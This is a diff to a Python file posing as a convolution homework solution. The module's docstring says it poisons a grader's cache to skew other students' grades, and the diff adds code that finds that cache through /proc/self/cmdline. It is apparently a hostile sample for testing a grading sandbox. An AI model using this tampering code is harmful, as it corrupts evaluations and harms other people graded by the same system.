@@ -1,17 +1,23 @@
 """Goes after the grader's cache: overwrites every training set and cached reference run it can
 find (so a later student would be graded against its numbers) and drops a file of its own next
-to them. It searches the usual cache places; a test passes the folder to search as x."""
+to them. The worker's command line names the training data dir, which lives in the cache
+(<cache>/data/<key>), so it climbs from there; a test may pass the folder to search as x."""
 
-import glob
+import json
 import os
-import tempfile
 
 
 def _places(x):
     if isinstance(x, str):
         return [x]
-    tmp = tempfile.gettempdir()
-    return glob.glob("/tmp/cnngrade-cache-*") + glob.glob(os.path.join(tmp, "cnngrade-cache-*"))
+    with open("/proc/self/cmdline", "rb") as f:
+        args = f.read().split(b"\0")
+    places = []
+    for arg in args:
+        if arg.startswith(b"{"):
+            for data in json.loads(arg).get("ro_dirs", []):
+                places.append(os.path.dirname(os.path.dirname(data)))  # the cache root
+    return places
 
 
 def conv_forward_naive(x, w=None, b=None, conv_param=None):
